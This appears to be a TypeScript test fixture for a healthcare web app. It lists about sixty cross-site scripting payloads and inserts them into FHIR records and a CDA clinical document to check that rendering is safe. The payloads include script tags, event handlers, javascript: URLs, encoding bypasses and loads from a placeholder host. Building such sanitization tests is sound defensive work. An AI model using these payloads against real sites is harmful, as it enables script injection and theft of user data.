/** Texts that mean to be a script, each of which calls home when it runs. */

/** What a script of a payload says, so that a page in which one ran can be told. */
export const CALLS = 'window.__ran=(window.__ran||0)+1';
/** A host that nobody has: asked for only if a payload got to ask. */
export const HOST = 'xss.invalid';

const c = CALLS;
/** Sixty ways into a page: elements, attributes, addresses, encodings, templates, broken markup. */
export const PAYLOADS: readonly string[] = [
  `<script>${c}</script>`,
  `<SCRIPT>${c}</SCRIPT>`,
  `<scr<script>ipt>${c}</scr</script>ipt>`,
  `<script src="https://${HOST}/a.js"></script>`,
  `<script src=//${HOST}/b.js></script>`,
  `<script type="module">${c}</script>`,
  `"><script>${c}</script>`,
  `'><script>${c}</script>`,
  `</title><script>${c}</script>`,
  `</textarea><script>${c}</script>`,
  `</script><script>${c}</script>`,
  `--><script>${c}</script>`,
  `]]><script>${c}</script>`,
  `<img src=x onerror="${c}">`,
  `<img src=x onerror=${c}>`,
  `<img/src=x/onerror=${c}>`,
  `<IMG SRC=x OnErRoR="${c}">`,
  `"><img src=x onerror="${c}">`,
  `' onerror='${c}' src='x`,
  `" autofocus onfocus="${c}" x="`,
  `<img src="https://${HOST}/a.png">`,
  `<svg onload="${c}">`,
  `<svg/onload=${c}>`,
  `<svg><script>${c}</script></svg>`,
  `<svg><animate onbegin="${c}" attributeName=x dur=1s>`,
  `<svg><a href="javascript:${c}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${c}">x</mi></math>`,
  `<iframe src="javascript:${c}"></iframe>`,
  `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  `<iframe src="https://${HOST}/"></iframe>`,
  `<object data="javascript:${c}"></object>`,
  `<object data="https://${HOST}/x.swf"></object>`,
  `<embed src="https://${HOST}/x">`,
  `<link rel="stylesheet" href="https://${HOST}/a.css">`,
  `<link rel="prefetch" href="https://${HOST}/p">`,
  `<style>@import "https://${HOST}/b.css";</style>`,
  `<div style="background:url(https://${HOST}/c.png)">x</div>`,
  `<base href="https://${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  `<form action="https://${HOST}/"><button autofocus>x</button></form>`,
  `<body onload="${c}">`,
  `<input autofocus onfocus="${c}">`,
  `<details open ontoggle="${c}">x</details>`,
  `<video><source onerror="${c}"></video>`,
  `<audio src=x onerror="${c}"></audio>`,
  `<marquee onstart="${c}">x</marquee>`,
  `<a href="javascript:${c}">x</a>`,
  `<a href="JaVaScRiPt:${c}">x</a>`,
  `<a href="java&#x09;script:${c}">x</a>`,
  `javascript:${c}`,
  `data:text/html,<script>${c}</script>`,
  `&lt;script&gt;${c}&lt;/script&gt;`,
  `&#60;script&#62;${c}&#60;/script&#62;`,
  `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  `%3Cscript%3E${c}%3C/script%3E`,
  `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  `{{constructor.constructor('${c}')()}}`,
  `\${${c}}`,
  `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  `<xss style="animation-name:x" onanimationstart="${c}"></xss>`,
  `<template><script>${c}</script></template><img src=x onerror=${c}>`,
];

/** Every string of a resource that a person may have written, with a payload in its place. */
export function poisoned(resource: unknown, next: () => string, key = ''): unknown {
  if (Array.isArray(resource)) return resource.map((one) => poisoned(one, next, key));
  if (typeof resource === 'object' && resource !== null)
    return Object.fromEntries(Object.entries(resource).map(([name, value]) => [name, poisoned(value, next, name)]));
  // What is attached is shown as readable text: all payloads at once in its place.
  if (key === 'data' && typeof resource === 'string') return Buffer.from(PAYLOADS.join('\n')).toString('base64');
  return typeof resource === 'string' && WRITTEN.has(key) ? next() : resource;
}

/** Members that hold words; codes, ids, dates and addresses have a form that is checked. */
const WRITTEN = new Set([
  'text',
  'display',
  'name',
  'family',
  'given',
  'prefix',
  'suffix',
  'title',
  'description',
  'note',
  'line',
  'city',
  'district',
  'valueString',
  'patientInstruction',
  'conclusion',
  'comment',
  'value_text',
  'unit',
  'lotNumber',
]);

/** Text of XML that is read back as exactly this. */
const asText = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** A CDA document about the citizen, of a house by its SOR id: every payload as words in each place that holds words, and as markup in the narrative. */
export function cdaOf(cpr: string, sor: string): string {
  const words = PAYLOADS.map(asText);
  const paragraphs = words.map((text) => `<paragraph>${text}</paragraph>`).join('');
  const items = words.map((text) => `<item>${text}</item>`).join('');
  const cells = words.map((text) => `<tr><td>${text}</td><td>${text}</td></tr>`).join('');
  const live = NARRATIVES.map((markup) => `<paragraph xmlns="http://www.w3.org/1999/xhtml">${markup}</paragraph>`);
  const section = (title: string, inner: string) =>
    `<component><section><title>${title}</title><text>${inner}</text></section></component>`;
  return `<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3">
    <realmCode code="DK"/><typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
    <id extension="scripts" root="1.2.208.184"/>
    <code code="34133-9" codeSystem="2.16.840.1.113883.6.1" displayName="${words[13]}"/>
    <title>${words[0]}</title><effectiveTime value="20260113100000+0100"/>
    <confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/><languageCode code="da-DK"/>
    <recordTarget><patientRole><id extension="${cpr}" root="1.2.208.176.1.2"/>
    <patient><name><given>${words[1]}</given><family>${words[13]}</family></name>
    <birthTime value="19480314000000+0000"/></patient></patientRole></recordTarget>
    <author><time value="20260113100000+0100"/><assignedAuthor><id extension="${sor}" root="1.2.208.176.1.1"/>
    <assignedPerson><name><given>${words[14]}</given><family>${words[15]}</family></name></assignedPerson>
    <representedOrganization><name>${words[17]}</name></representedOrganization></assignedAuthor></author>
    <custodian><assignedCustodian><representedCustodianOrganization><id extension="${sor}" root="1.2.208.176.1.1"/>
    <name>${words[21]}</name></representedCustodianOrganization></assignedCustodian></custodian>
    <component><structuredBody>${section(words[16]!, paragraphs)}${section('Liste', `<list>${items}</list>`)}
    ${section('Tabel', `<table><tbody>${cells}</tbody></table>`)}${section('Markup', live.join(''))}</structuredBody></component>
    </ClinicalDocument>`;
}

/** Narrative that is well-formed and would run, were it taken and shown as it is. */
export const NARRATIVES: readonly string[] = [
  `<script>${c}</script>`,
  `<img src="x" onerror="${c}"/>`,
  `<a href="javascript:${c}">x</a>`,
  `<p onclick="${c}">x</p>`,
  `<p style="background:url(https://${HOST}/n.png)">x</p>`,
  `<img src="https://${HOST}/n.png" alt="x"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`,
  `<iframe src="https://${HOST}/"/>`,
];
